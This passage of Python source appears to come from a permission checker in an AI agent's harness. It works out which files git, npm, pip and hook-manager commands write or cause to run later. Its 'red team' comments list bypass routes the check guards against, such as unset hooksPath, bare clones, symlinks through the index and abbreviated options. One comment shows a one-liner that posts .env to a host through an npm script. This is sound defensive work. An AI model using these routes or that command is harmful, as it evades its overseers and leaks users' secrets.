    """`git config KEY VALUE` for a key whose value git runs or loads later (a pager, a hook path, a filter,
    `alias.x=!cmd`, `include.path`): the configuration file it writes."""
    positionals = _config_positionals(rest[1:])
    if len(positionals) < 2 or config_command(positionals[0], positionals[1]) == (None, None):
        if not _code_setting_removed(rest[1:], positionals):
            return []
    if "--global" in rest:
        return [("~/.gitconfig", NAMED)]
    return [(_join(base, ".git/config"), NAMED)]


# red team: `git config --unset core.hooksPath` (git 2.46: `git config unset`) changes what runs as much as setting
# it (the hooks of .git/hooks run again, a hook manager's stop): a key that makes git load or trust code from
# elsewhere (config_command's reasons: hooksPath, templateDir, safe.*, include paths), removed; a section that
# holds one removed or renamed whole. (A program key removed -- a pager, a credential helper -- runs none.)
_CONFIG_REMOVALS = frozenset({"--unset", "--unset-all", "--remove-section", "--rename-section"})
_CODE_SECTIONS = frozenset({"core", "include", "includeif", "init", "safe", "protocol"})


def _code_setting_removed(words: tuple[str, ...], positionals: list[str]) -> bool:
    """Whether `git config` (``words``: after ``config``) removes a key whose value runs or loads code, or
    removes or renames a section that may hold one."""
    acts = _CONFIG_REMOVALS.intersection(words)
    if not acts and words[:1] in (("unset",), ("remove-section",), ("rename-section",)):
        acts = frozenset({"--" + words[0]})
        positionals = positionals[1:]
    if not acts or not positionals:
        return False
    key = positionals[0]
    if acts.isdisjoint(("--unset", "--unset-all")):
        return key.partition(".")[0].lower() in _CODE_SECTIONS
    return config_command(key, "x")[1] is not None


def _index_changes(rest: tuple[str, ...]) -> list[str]:
    """R3.7, red team: the paths `git update-index` gives a new mode or content in the index -- `--chmod=+x
    PATH` (the file runs as a program once checked out or committed), `--cacheinfo MODE,SHA,PATH` (or the
    three words apart) -- which a checkout then writes; [] for its other uses (`--refresh`)."""
    chmod = any(w.startswith("--chmod") for w in rest)
    out: list[str] = []
    k = 1
    while k < len(rest):
        w = rest[k]
        k += 1
        name, eq, glued = w.partition("=")
        if _cacheinfo(name) and eq:
            out.append(glued.split(",", 2)[-1])
        elif _cacheinfo(name):
            value = rest[k] if k < len(rest) else ""
            if value.count(",") >= 2:
                out.append(value.split(",", 2)[2])
                k += 1
            else:
                out.extend(rest[k + 2 : k + 3])
                k += 3
        elif chmod and w[:1] != "-":
            out.append(w)
    return out


def _cacheinfo(name: str) -> bool:
    """`--cacheinfo` or an abbreviation git's options parser takes for it (`--cachei`; `--c` is also `--chmod`)."""
    return len(name) > 3 and "--cacheinfo".startswith(name)


def _links_in_index(rest: tuple[str, ...]) -> bool:
    """red team: `git update-index --cacheinfo 120000,SHA,src/x` (or a submodule, `160000`): on any path, a link
    whose target is a blob's content no word shows (`src/x -> ../.husky`), written by the next checkout; entries
    read from the input (`--index-info`, or an abbreviation: `--index-i`)."""
    for k, w in enumerate(rest):
        name, eq, glued = w.partition("=")
        if len(name) > 8 and "--index-info".startswith(name) and not eq:
            return True
        if _cacheinfo(name):
            value = glued if eq else (rest[k + 1] if k + 1 < len(rest) else "")
            if value.partition(",")[0] in ("120000", "160000"):
                return True
    return False


def _git_named_writes(sub: str, rest: tuple[str, ...], base: str) -> list[Target]:
    """red team: `git switch -f`/`--discard-changes` throws local changes -- any file -- away as `checkout -f`
    does, `--orphan` removes every tracked file; `git merge-file` writes its first file (unless `-p`), `git mergetool` the conflicted files it is
    given (or every one), `git bundle create` the bundle it names, `git read-tree --prefix=P` the folder P in the
    index."""
    if sub == "switch":
        # `--orphan`: a new unborn branch, every tracked file removed from the working tree
        rewrites = _has_flag(rest, "f", ("--force", "--discard-changes")) or any(
            w.partition("=")[0] == "--orphan" for w in rest
        )
        return [(base or ".", WHOLE)] if rewrites else []
    if sub == "merge-file":
        ops = [] if _has_flag(rest, "p", ("--stdout",)) else _operands(rest, _MERGE_FILE_VALUED)
        return [(_join(base, o), NAMED) for o in ops[:1]]
    if sub == "mergetool":
        ops = _operands(rest, _MERGETOOL_VALUED)
        return [(_join(base, o), NAMED) for o in ops] if ops else [(base or ".", WHOLE)]
    if sub == "read-tree":
        # red team: a tree read into the index under a prefix (`--prefix=.husky/`, `--pref .husky/`: an
        # abbreviation), which the next commit holds and a switch writes -- history under another name
        return [(_join(base, p), TREE) for p in _option_values(rest, "", _READ_TREE_PREFIX)]
    if len(rest) > 2 and rest[1] == "create":  # bundle
        return [(_join(base, o), NAMED) for o in _operands(rest[1:], _BUNDLE_VALUED)[:1]]
    return []


_GIT_NAMED_WRITERS = frozenset({"switch", "merge-file", "mergetool", "bundle", "read-tree"})
_READ_TREE_PREFIX = ("--prefix", "--prefi", "--pref", "--pre", "--pr", "--p")  # (no other option starts so)


def _git_places(sub: str, rest: tuple[str, ...], base: str) -> list[Target]:
    """`git clone URL [DIR]` and `git worktree add PATH`: the folder they fill (a clone's default is the
    address's last part, `.github` for `…/org/.github.git`); `git update-index --chmod`/`--cacheinfo`: the
    paths it changes in the index."""
    if sub == "update-index":
        if (
            "--index-info" in rest
            or ("--stdin" in rest and any(w.startswith("--chmod") for w in rest))
            or _links_in_index(rest)
        ):
            # red team: index entries (or paths given a mode) read from the input; a link whose target is a blob
            return [(base or ".", WHOLE)]
        return [(_join(base, p), NAMED) for p in _index_changes(rest)]
    if sub == "add" and any(w.startswith(("--ch", "--c=")) for w in rest):
        # red team: `git add --chmod=+x .husky/pre-commit` (or `--chmod +x`, `--chm=+x`: an abbreviation) gives the
        # path a mode as update-index does
        ops = [w for w in rest[1:] if w[:1] != "-" and w not in ("+x", "-x")]
        return [(_join(base, p), TREE) for p in ops]
    if sub == "unpack-file":
        # red team: a blob's content, into the folder it runs in
        return [(_join(base, ".merge_file_XXXXXX"), NAMED)]
    if sub in _GIT_NAMED_WRITERS:
        return _git_named_writes(sub, rest, base)
    if sub == "clone":
        return _clone_places(rest, base)
    if sub == "worktree" and len(rest) > 1 and rest[1] == "add":
        ops = _operands(rest[1:], _GIT_CLONE_VALUED)
        return [(_join(base, ops[0]), TREE)] if ops else []
    return []


def _clone_places(rest: tuple[str, ...], base: str) -> list[Target]:
    """`git clone URL [DIR]`: the folder it fills. red team: a bare or mirror clone (`--bare`, `--mirror`, git's
    abbreviations of them) makes that folder a git store, and `--separate-git-dir=D` makes D one: under a name
    the protected table does not keep (`git clone --bare URL x`), its config and hooks were later written as
    plain files and run by `git -C x log` -- judged as the store's HEAD, which the table keeps."""
    ops = _operands(rest, _GIT_CLONE_VALUED)
    bare = any(len(w) > 3 and ("--bare".startswith(w) or "--mirror".startswith(w)) for w in rest)
    if len(ops) >= 2:
        folder = ops[1]
    elif ops:
        folder = ops[0].rstrip("/").rpartition("/")[2].rpartition(":")[2]
        folder = folder[: -len(".git")] if folder.endswith(".git") and not bare else folder
    else:
        return []
    out: list[Target] = [(_join(base, folder), TREE)] if folder else []
    stores = [folder] if bare and folder else []
    for k, w in enumerate(rest):
        name, eq, value = w.partition("=")
        if len(name) > 4 and "--separate-git-dir".startswith(name):  # (`--sep`: git takes abbreviations)
            stores += [value] if eq else list(rest[k + 1 : k + 2])
    return out + [(_join(_join(base, d), "HEAD"), NAMED) for d in stores]


def _client_config(entry: tuple[str, frozenset[str], str], view: tuple[str, ...]) -> list[Target]:
    """`aws --profile p configure set credential_process ...`, `kubectl config set-credentials u
    --exec-command=...`, `docker context create x --docker host=ssh://...`: after any global option."""
    sub, writing, kept = entry
    if sub not in view:
        return []
    k = view.index(sub)
    act = view[k + 1] if k + 1 < len(view) else ""
    if act in writing or act.startswith(("set", "delete", "unset", "rename")) or not act:
        return [(kept, NAMED)]
    return []


def _module_and_folder_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """red team: `python -m zipfile|tarfile -e`, `python -m json.tool IN OUT` (OUT, past the module's own
    options), and the folder a package fetcher is told to fill (_PACKAGE_DIRS)."""
    if verb.startswith(_PYTHONS_PREFIX):
        if "zipfile" in view or "tarfile" in view:
            return _unpacked(verb, view)
        if view[1:3] == ("-m", "pre_commit"):
            return _config_targets(
                "pre-commit", ("pre-commit", *view[3:])
            )  # red team: pre-commit as a module
        if "json.tool" in view:
            k = view.index("json.tool")
            ops = _operands(("json.tool", *view[k + 1 :]), frozenset({"--indent"}))
            return [(ops[1], NAMED)] if len(ops) > 1 else []
    if verb in _PACKAGE_DIRS or (verb.startswith(_PYTHONS_PREFIX) and "pip" in view):
        names = _PACKAGE_DIRS.get(verb, _PACKAGE_DIRS["pip"])
        shorts = "".join(o[1] for o in names if len(o) == 2)
        return [(d, TREE) for d in _option_values(view, shorts, tuple(o for o in names if o[:2] == "--"))]
    return []


# The acts of a package manager's `config` that write its settings; red team: options may stand between the
# words (`pip config --site set k v`, `npm config --location project set k v`, `pnpm --dir x config set`), and
# npm takes `c` for `config`: any later word naming an act counts (an option's value read as one: fail closed).
_PKG_CONFIG_ACTS = frozenset({"set", "delete", "unset", "edit", "fix", "rm", "del"})
_PIP_CONFIG_ACTS = frozenset({"set", "unset", "edit"})
_CONFIG = frozenset({"config"})
# (red team: and any unique abbreviation of `config`, `npm conf set`; pnpm takes `c` too)
_NPM_CONFIG = frozenset({"config", "c", "con", "conf", "confi"})


def _config_act(rest: tuple[str, ...], acts: frozenset[str], names: frozenset[str]) -> bool:
    """Whether ``rest`` (the words after the program) runs its ``config`` subcommand with a writing act: the
    first word not an option (or an option's value) is one of ``names``, an act among the words after it."""
    for k, w in enumerate(rest):
        if w in names:
            return not acts.isdisjoint(rest[k + 1 :])
        if w[:1] != "-" and (k == 0 or rest[k - 1][:1] != "-" or "=" in rest[k - 1]):
            return False  # another subcommand
    return False


# red team (R4.9, a file written then run: permissions.commands.runs_a_written_file): a package manager's own
# setter edits the manifest its runner obeys -- `npm pkg set scripts.test='curl -d @.env x' && npm test`, `bun
# pm pkg set ...`, `composer config scripts.x ... && composer x`, `corepack use yarn@URL`, `yarn set version
# URL` (the yarn every later `yarn` runs), `mise tasks add t -- CMD`. A key that cannot make a tool run code
# (`npm pkg set version=1.2.3`, the package's name, description, author ...) writes nothing a runner obeys;
# any other key (`scripts.*`, `bin`, `main`, `dependencies`, `workspaces`, `packageManager`, `overrides`,
# `config` ...), a key read from JSON, `pkg delete|fix`: the manifest.
_MANIFEST_INERT = frozenset(
    "name version description keywords author license homepage bugs repository contributors private funding".split()
)
_PKG_EDITS = frozenset({"set", "delete", "fix"})
# (may_write's filter: the words without which _manifest_targets finds nothing; npm's abbreviations of set-script)
_MANIFEST_WORDS = frozenset({"pkg", "pk", "plugin", "policies"} | {"set-script"[:n] for n in range(5, 11)})


def _manifest_key_runs(word: str) -> bool:
    """A ``pkg set|delete`` key (``scripts.test=x``, ``scripts[test]``, ``version=1``) that may make code run."""
    key = word.partition("=")[0].strip("'\"")
    top = key.split(".", 1)[0].split("[", 1)[0]
    return top not in _MANIFEST_INERT


def _pkg_edit(rest: tuple[str, ...]) -> bool:
    """npm's (pnpm's, bun pm's) ``pkg set|delete|fix`` among ``rest`` (the words after ``pkg``) with a key that
    may make code run (npm takes a unique abbreviation of a command: ``pk``)."""
    for k, w in enumerate(rest):
        if w in _PKG_EDITS:
            keys = [x for x in rest[k + 1 :] if x[:1] != "-"]
            return w == "fix" or not keys or any(_manifest_key_runs(x) for x in keys)
    return False


def _manifest_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """What a package manager's own setter writes into the manifest its runner obeys (above)."""
    words = view[1:]
    for k, w in enumerate(words):
        if w[:1] == "-":
            continue
        if w in ("pkg", "pk") and (verb != "bun" or words[k - 1 : k] == ("pm",)):
            return [("package.json", NAMED)] if _pkg_edit(words[k + 1 :]) else []
        if verb == "npm" and w.startswith("set-s") and "set-script".startswith(w):
            return [("package.json", NAMED)]
        if verb == "yarn" and (
            words[k : k + 2] == ("set", "version") or words[k : k + 2] == ("policies", "set-version")
        ):
            return [(".yarnrc.yml", NAMED), (".yarnrc", NAMED)]
        if verb == "yarn" and w == "plugin" and words[k + 1 : k + 2] in (("import",), ("add",)):
            return [(".yarnrc.yml", NAMED)]
        if verb == "bun" and w == "pm":
            continue
        if k == 0 or words[k - 1][:1] != "-" or "=" in words[k - 1]:
            return []  # another subcommand (a word after an option may be its value: read on)
    return []


def _config_writer_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """The files of :data:`_CONFIG_WRITERS` a view writes: its subcommand is one of the row's."""
    subs, files = _CONFIG_WRITERS[verb]
    sub = view[1] if len(view) > 1 else ""
    if verb == "mise" and sub in ("tasks", "task", "t") and view[2:3] in (("add",), ("edit",)):
        return [(f, NAMED) for f in files]  # red team: a task written, run by `mise run`
    if sub in ("generate", "g") and ("--write" in view or "-w" in view):
        # red team: `mise generate git-pre-commit --write` writes a git hook, `github-action --write` a workflow,
        # `devcontainer --write` the editor's container
        return [(f, NAMED) for f in (".git", ".github", ".devcontainer")]
    return [(f, NAMED) for f in files] if sub in subs or "*" in subs else []


def _config_targets(verb: str, view: tuple[str, ...]) -> list[Target]:
    """What ``targets`` answers for the programs that write their own configuration (package managers, agent
    CLIs, direnv, git hooks managers), which decides what runs later (R3.7)."""
    if verb in _PKG_CONFIG:
        if _config_act(view[1:], _PKG_CONFIG_ACTS, _NPM_CONFIG if verb in ("npm", "pnpm") else _CONFIG):
            return [(_PKG_CONFIG[verb], NAMED)]
        if verb in ("npm", "pnpm") and "set" in _operands(view)[:1]:
            return [(".npmrc", NAMED)]
        return _manifest_targets(verb, view)
    if verb in _PIP or (
        verb.startswith(_PYTHONS_PREFIX) and len(view) > 3 and view[1] == "-m" and view[2] in _PIP
    ):
        rest = view[1:] if verb in _PIP else view[3:]
        if _config_act(rest, _PIP_CONFIG_ACTS, _CONFIG):
            return [("pip.conf", NAMED)]
        return []
    if verb in _AGENT_CLIS:
        if len(view) > 1 and view[1] in _AGENT_CONFIG_SUBCOMMANDS:
            return [(_AGENT_CLIS[verb], NAMED)]
        return []
    if verb == "direnv":
        return (
            [(".envrc", NAMED)] if len(view) > 1 and view[1] in ("allow", "permit", "grant", "edit") else []
        )
    if verb == "pre-commit":
        if len(view) > 1 and view[1] in (
            "install",
            "uninstall",
            "install-hooks",
            "autoupdate",
            "migrate-config",
        ):
            return [(".git", NAMED), (".pre-commit-config.yaml", NAMED)]
        return []
    if verb == "husky":
        return [(".husky", NAMED)]
    if verb in _CLIENT_CONFIG:
        return _client_config(_CLIENT_CONFIG[verb], view)
    if verb in _CONFIG_WRITERS:
        return _config_writer_targets(verb, view)
    own = _OWN_WRITERS.get(verb)
    if own is not None:
        return own(verb, view)
    return []


# Words without which a view of these programs writes nothing (the cheap filter below).
_GIT_WRITING = frozenset({*_GIT_WORKTREE, "reset", "stash", "am", "apply", "quiltimport", "checkout-index", "read-tree",
                          "submodule", "init", "config", "-o", "clone", "worktree", "update-index",
                          "sparse-checkout", "switch", "merge-file", "bundle", "mergetool", "merge-index",
                          "difftool", "rerere", "unpack-file", "mktree", "commit-tree", "update-ref",
                          "unpack-objects", "filter-branch", "fetch-pack", "hash-object", "index-pack",
                          "replace", "fetch", "pull", *_GIT_FILE_OPTIONS, "gc", "reflog", "prune",
                          "repack"})  # fmt: skip
_FIND_WRITING = frozenset({"-delete", "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf",
                           "-fls"})  # fmt: skip
_SUBCOMMAND_WRITERS = frozenset({*_PKG_CONFIG, *_AGENT_CLIS, *_PIP})
# (and the package managers' and the agents' output options of _OUTPUT_OPTIONS: `yarn pack -o F`, `pnpm pack
# --out F`, `codex exec -o F`)
_PM_OUTPUTS = {
    verb: _OUTPUT_OPTIONS[verb] for verb in (*_PKG_CONFIG, *_AGENT_CLIS) if verb in _OUTPUT_OPTIONS
}
_PACKAGE_DIR_STARTS = tuple(
    sorted(
        {o for names in _PACKAGE_DIRS.values() for o in names}
        | {o for shorts, _ in _PM_OUTPUTS.values() for o in ("-" + c for c in shorts)}
        | {o for _, longs in _PM_OUTPUTS.values() for o in longs}
    )
)
_PACKAGE_FILTERED = frozenset(_PACKAGE_DIRS) | frozenset(_PM_OUTPUTS)
# the cloners and scaffolders no other branch of may_write reads (the others test their acts in their branch)
_SCAFFOLD_ONLY = (
    frozenset(_SCAFFOLDS) - frozenset(_BUILD_ONLY) - frozenset(_CLIENT_CONFIG) - _SUBCOMMAND_WRITERS
)


# (one search of the words joined; and `-c gc.pruneExpire=now`, a grace period set: _grace_key)
_GIT_O = re.compile(r" (?:--output|-[A-Za-z]*o|--c(?:h|=))|(?i:gc\.\S*expire)").search


def may_write(view: tuple[str, ...]) -> bool:
    """A cheap filter, true whenever :func:`targets` can find anything in ``view`` (a view of a segment)."""
    verb = view[0]
    if verb in _FIRST_ROW_VERBS:  # (the call only for them: this filter runs on every view)
        first = _first_rows(verb, view)
        if first is not None:
            return first
    if verb not in WRITE_VERBS:
        if "=" in verb:
            return _ASSIGNED_SEARCH(" " + " ".join(view)) is not None
        if "/" in verb:
            verb = verb.rpartition("/")[2]
            if verb in WRITE_VERBS:
                return may_write((verb, *view[1:]))
        if verb in _ASSIGNERS_AND_MAKES:
            search = _MAKE_DIR_SEARCH if verb in ("make", "gmake") else _ASSIGNED_SEARCH
            return search(" " + " ".join(view)) is not None
        return (
            verb.startswith(_PYTHONS_PREFIX)
            and (
                "pip" in view
                or "pip3" in view
                or "json.tool" in view
                or "zipfile" in view
                or "tarfile" in view
                or "pre_commit" in view
            )
        ) or (verb in _LAUNCHERS and bool(_initialized(verb, view)))
    build = _BUILD_ONLY.get(verb)  # (first: the test runners, linters and type checkers are everyday words)
    if build is not None:
        return (
            build(" " + " ".join(view[1:])) is not None
            or (len(view) > 2 and view[1] in _SCAFFOLD_FIRST and bool(_scaffolded(verb, view)))
            or (verb in _ABBREVIATING_WRITERS and bool(_unabbreviated(verb, view)))
            or (verb in _FORMATTERS and bool(_formatted(verb, view)))
        )
    if verb in _SCAFFOLD_ONLY:
        return bool(_scaffolded(verb, view)) or (verb == "composer" and _composer_config_at(view) > 0)
    if verb == "git":
        # (red team: `-o` glued to its value or ending a cluster, `git archive -o.husky/x`, `-vo.envrc`)
        joined = " " + " ".join(view[1:])
        return not _GIT_WRITING.isdisjoint(view) or _GIT_O(joined) is not None
    if verb == "find":
        return not _FIND_WRITING.isdisjoint(view)
    if verb in _SUBCOMMAND_WRITERS:
        return (
            not _NPM_CONFIG.isdisjoint(view)  # (`config`, and npm's and pnpm's `c`, `conf` ...)
            or "set" in view
            or not _MANIFEST_WORDS.isdisjoint(view)
            or (len(view) > 1 and view[1] in _AGENT_CONFIG_SUBCOMMANDS)
            or (verb in _PACKAGE_FILTERED and any(w.startswith(_PACKAGE_DIR_STARTS) for w in view))
            or (verb in _PIP and bool(_unabbreviated(verb, view)))  # (`pip install --targ DIR`)
            or (verb == "bun" and _BUILD_SEARCH["bun"](" " + " ".join(view[1:])) is not None)
            or (len(view) > 2 and view[1] in _SCAFFOLD_FIRST and bool(_scaffolded(verb, view)))
            or (
                verb in _LAUNCH_ACTS
                and not _LAUNCH_ACTS[verb].isdisjoint(view[1:4])
                and bool(_initialized(verb, view))
            )
        )
    if verb in _SOME_ACTS:
        return _writes_by_acts(verb, view)
    return True


_FIRST_ROW_VERBS = SETTINGS_WRITERS | frozenset(_PATCH_APPLIERS)


def _first_rows(verb: str, view: tuple[str, ...]) -> bool | None:
    """may_write's first rows, read before the others (None: they do not decide): a settings writer's, a patch
    applier's applying act (hg's and svn's other acts are read by their own rows)."""
    if verb in SETTINGS_WRITERS:
        if settings_targets(verb, view):
            return True  # (`gh alias set`, `gpg --decrypt-files`: besides what their other branches read)
        if verb in _SETTINGS_ONLY:
            return False
    if verb in _PATCH_APPLIERS and _patch_applied(verb, view):
        return True
    return None


def _writes_by_acts(verb: str, view: tuple[str, ...]) -> bool:
    """may_write's last rows: the programs that write by some of their acts only."""
    if verb in _FDS:
        return any(w[:1] == "-" and _fd_execs(w) for w in view[1:])
    if verb in ("direnv", "pre-commit"):
        return len(view) > 1
    if verb in _CLIENT_CONFIG:
        return (
            _CLIENT_CONFIG[verb][0] in view
            or (verb in _CONTAINER_COPIERS and "cp" in view[1:3])
            or (verb in _CLOUD_COPIES and "s3" in view[1:2])
            or (verb in _ENGINES and not _ENGINE_OUTPUTS.isdisjoint(view[1:4]))
            or (len(view) > 2 and view[1] in _SCAFFOLD_FIRST and bool(_scaffolded(verb, view)))
        )
    if verb in _CONTAINER_COPIERS:
        return "cp" in view[1:3] or (verb in _ENGINES and not _ENGINE_OUTPUTS.isdisjoint(view[1:4]))
    if verb == "cmake":
        return "-E" in view or any(w.startswith(_CMAKE_PREFIX_STARTS) for w in view)
    return True


_SOME_ACTS = frozenset({"direnv", "pre-commit", "cmake", *_CLIENT_CONFIG, *_CONTAINER_COPIERS, *_FDS})
